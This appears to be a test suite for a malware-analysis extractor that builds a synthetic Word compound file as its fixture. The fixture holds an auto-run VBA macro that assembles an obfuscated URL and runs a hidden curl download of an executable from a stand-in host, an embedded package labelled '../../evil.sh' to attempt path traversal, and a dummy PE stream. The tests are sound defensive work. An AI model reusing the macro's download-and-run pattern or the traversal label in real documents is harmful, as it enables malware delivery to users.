// analysis::extract_document and `mamori extract` on documents built here: a Word-layout compound file with a VBA
// project, an ActiveX control string, an Ole10Native package whose label tries to climb out of the output folder,
// and a stream holding a whole PE. Checks what is listed, what is written (names, modes, sha256), that nothing is
// written outside --out, that existing files are not overwritten, and that non-documents are refused.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "analysis/extract.hpp"
#include "common/hash.hpp"
#include "support/cfb_builder.hpp"
#include "support/files.hpp"
#include "support/iocs_helpers.hpp"
#include "support/run_cli.hpp"

namespace {

namespace fs = std::filesystem;
namespace analysis = mamori::analysis;
using namespace mamori::test;

std::vector<std::uint8_t> bytes_of(const std::string& s) { return {s.begin(), s.end()}; }

void put32(std::vector<std::uint8_t>& b, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) b.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

const std::string kPayload = "#!/bin/sh\necho never run\n";

// An \x01Ole10Native stream: size, then the Packager layout (label, source path, temp path, data).
std::vector<std::uint8_t> ole10native(const std::string& label, const std::string& data) {
  std::vector<std::uint8_t> body = {2, 0};
  for (const std::string& s : {label, std::string("C:\\tmp\\") + "x.sh"}) {
    body.insert(body.end(), s.begin(), s.end());
    body.push_back(0);
  }
  body.insert(body.end(), {0, 0, 3, 0});
  const std::string temp = "C:\\Users\\u\\AppData\\Local\\Temp\\x.sh";
  put32(body, static_cast<std::uint32_t>(temp.size() + 1));
  body.insert(body.end(), temp.begin(), temp.end());
  body.push_back(0);
  put32(body, static_cast<std::uint32_t>(data.size()));
  body.insert(body.end(), data.begin(), data.end());
  std::vector<std::uint8_t> s;
  put32(s, static_cast<std::uint32_t>(body.size()));
  s.insert(s.end(), body.begin(), body.end());
  return s;
}

// An MS-OFORMS-like control blob: a header, the caption size with the 8-bit flag, then the text padded to 4.
std::vector<std::uint8_t> control_blob(const std::string& text) {
  std::vector<std::uint8_t> b = {0x00, 0x02, 0x20, 0x00};
  put32(b, 0x00000100);
  put32(b, 0x80000000u | static_cast<std::uint32_t>(text.size()));
  b.insert(b.end(), text.begin(), text.end());
  while (b.size() % 4) b.push_back(0);
  b.insert(b.end(), {'x', 'y', 0x00, 0x02});  // the next field, printable on purpose
  return b;
}

std::vector<std::uint8_t> make_document() {
  VbaSpec v;
  v.modules.push_back({"ThisDocument",
                       "Attribute VB_Name = \"ThisDocument\"\r\nAttribute VB_Base = \"1Normal.ThisDocument\"\r\n"
                       "Private Sub Document_Open()\r\n"
                       "  u = Replace(ThisDocument.TextBox1.Text, \"~~\", \"\") & Chr(47) & StrReverse(\"exe.a\")\r\n"
                       "  CreateObject(\"WScript.Shell\").Run \"cmd /c curl -o %TEMP%\\a.exe \" & u, 0\r\n"
                       "End Sub\r\n",
                       std::vector<std::uint8_t>(100, 0), false});
  CfbSpec s;
  s.streams = build_vba_streams(v);
  s.streams.push_back({"WordDocument", std::vector<std::uint8_t>(600, 0)});
  s.streams.push_back({"ObjectPool/_1/\x03OCXNAME", utf16le("TextBox1")});
  s.streams.push_back({"ObjectPool/_1/contents", control_blob("http~~://ext~~ract.exam~~ple.com")});
  s.streams.push_back({"ObjectPool/_2/\x01Ole10Native", ole10native("../../evil.sh", kPayload)});
  std::vector<std::uint8_t> pe = bytes_of("MZ");
  pe.resize(700, 0x90);
  s.streams.push_back({"ObjectPool/_3/CONTENTS", pe});
  return build_cfb(s);
}

TEST(ExtractDocument, ListsModulesStringsObjectsAndIocs) {
  const auto doc = make_document();
  auto x = analysis::extract_document(mamori::ByteView(doc.data(), doc.size()));
  ASSERT_TRUE(x.ok()) << x.error().to_string();
  EXPECT_EQ(x->format, "ole2");
  ASSERT_EQ(x->modules.size(), 1u);
  EXPECT_EQ(x->modules[0].name, "ThisDocument");
  EXPECT_EQ(x->modules[0].project, "Macros/VBA");
  bool control = false;
  for (const auto& f : x->form_strings) control |= f.control == "TextBox1" && f.value == "http~~://ext~~ract.exam~~ple.com";
  EXPECT_TRUE(control);
  EXPECT_EQ(values_of(x->iocs, "url"), std::set<std::string>{"http://extract.example.com/a.exe"}) << dump(x->iocs);
  EXPECT_NE(find_ioc(x->iocs, "command", "cmd /c curl -o %TEMP%\\a.exe http://extract.example.com/a.exe"), nullptr)
      << dump(x->iocs);
  ASSERT_EQ(x->objects.size(), 2u);
  const auto& pkg = x->objects[0].kind == "ole10native" ? x->objects[0] : x->objects[1];
  const auto& pe = x->objects[0].kind == "ole10native" ? x->objects[1] : x->objects[0];
  EXPECT_EQ(pkg.label, "../../evil.sh");
  EXPECT_EQ(std::string(pkg.data.begin(), pkg.data.end()), kPayload);
  EXPECT_EQ(pkg.sha256, mamori::sha256_hex(mamori::ByteView(pkg.data.data(), pkg.data.size())));
  EXPECT_EQ(pe.kind, "stream");
  EXPECT_EQ(pe.data.size(), 700u);
}

TEST(ExtractDocument, RefusesNonDocumentsAndSurvivesCorruption) {
  const std::string text = "just text";
  EXPECT_FALSE(analysis::extract_document(mamori::ByteView(text.data(), text.size())).ok());
  // Every truncation and a sweep of byte flips: never a crash, always a result or a clean error.
  auto doc = make_document();
  for (std::size_t n = 0; n < doc.size(); n += 509) {
    auto x = analysis::extract_document(mamori::ByteView(doc.data(), n));
    (void)x;
  }
  std::uint32_t r = 7;
  for (int i = 0; i < 300; ++i) {
    auto d = doc;
    for (int k = 0; k < 8; ++k) {
      r = r * 1103515245u + 12345u;
      d[(r >> 8) % d.size()] = static_cast<std::uint8_t>(r >> 24);
    }
    auto x = analysis::extract_document(mamori::ByteView(d.data(), d.size()));
    (void)x;
  }
}

using mamori::test::run_mamori;

class ExtractCommand : public ::testing::Test {
 protected:
  void SetUp() override {
    dir = mamori::test::fresh_test_dir("mamori-extract");
    fs::create_directories(dir / "work");
    doc = (dir / "work" / "doc.bin").string();
    const auto d = make_document();
    std::ofstream(doc, std::ios::binary).write(reinterpret_cast<const char*>(d.data()), static_cast<std::streamsize>(d.size()));
  }
  void TearDown() override { fs::remove_all(dir); }
  fs::path dir;
  std::string doc;
};

TEST_F(ExtractCommand, PrintsEverythingWithoutOut) {
  const auto r = run_mamori({"extract", doc});
  EXPECT_EQ(r.exit_code, 0);
  EXPECT_NE(r.out.find("=== module ThisDocument"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("url  http://extract.example.com/a.exe"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("label \"../../evil.sh\""), std::string::npos) << r.out;
  const auto j = run_mamori({"extract", "--json", doc});
  EXPECT_EQ(j.exit_code, 0);
  const auto parsed = nlohmann::json::parse(j.out);
  EXPECT_EQ(parsed["iocs"][0]["value"], "http://extract.example.com/a.exe");
  EXPECT_EQ(parsed["objects"].size(), 2u);
}

TEST_F(ExtractCommand, WritesOnlyGeneratedNamesInsideOut) {
  const fs::path out = dir / "work" / "out";
  const auto r = run_mamori({"extract", "--json", "--out", out.string(), doc});
  ASSERT_EQ(r.exit_code, 0) << r.out;
  std::set<std::string> names;
  for (const auto& e : fs::directory_iterator(out)) {
    names.insert(e.path().filename().string());
    struct stat st {};
    ASSERT_EQ(::stat(e.path().c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u) << e.path();
  }
  EXPECT_EQ(names, (std::set<std::string>{"manifest.json", "report.txt", "module-001.vba.txt", "object-001.bin",
                                          "object-002.bin"}));
  // Nothing escaped: the folders above hold only what was there.
  EXPECT_FALSE(fs::exists(dir / "evil.sh"));
  EXPECT_FALSE(fs::exists(dir / "work" / "evil.sh"));
  std::set<std::string> above;
  for (const auto& e : fs::directory_iterator(dir / "work")) above.insert(e.path().filename().string());
  EXPECT_EQ(above, (std::set<std::string>{"doc.bin", "out"}));
  // The manifest names each object's file and sha256, and keeps the hostile label as data.
  const auto m = nlohmann::json::parse(std::ifstream(out / "manifest.json"));
  bool found = false;
  for (const auto& o : m["objects"]) {
    if (o["label"] != "../../evil.sh") continue;
    found = true;
    std::ifstream f(out / o["file"].get<std::string>(), std::ios::binary);
    const std::string body((std::istreambuf_iterator<char>(f)), {});
    EXPECT_EQ(body, kPayload);
    EXPECT_EQ(o["sha256"], mamori::sha256_hex(mamori::ByteView(body.data(), body.size())));
  }
  EXPECT_TRUE(found);
  EXPECT_EQ(nlohmann::json::parse(r.out)["objects"].size(), 2u);
  // A second run finds the files there and refuses rather than overwrite.
  std::ofstream(out / "object-001.bin", std::ios::trunc) << "analyst notes";
  EXPECT_EQ(run_mamori({"extract", "--out", out.string(), doc}).exit_code, 2);
  std::ifstream kept(out / "object-001.bin");
  EXPECT_EQ(std::string((std::istreambuf_iterator<char>(kept)), {}), "analyst notes");
}

TEST_F(ExtractCommand, ErrorsAreExitCodeTwo) {
  std::ofstream(dir / "work" / "plain.txt") << "hello";
  EXPECT_EQ(run_mamori({"extract", (dir / "work" / "plain.txt").string()}).exit_code, 2);
  EXPECT_EQ(run_mamori({"extract", (dir / "work" / "missing.doc").string()}).exit_code, 2);
  // --out through a symlink to a file, or into a path under a regular file, fails cleanly.
  EXPECT_EQ(run_mamori({"extract", "--out", (dir / "work" / "plain.txt").string(), doc}).exit_code, 2);
}

}  // namespace
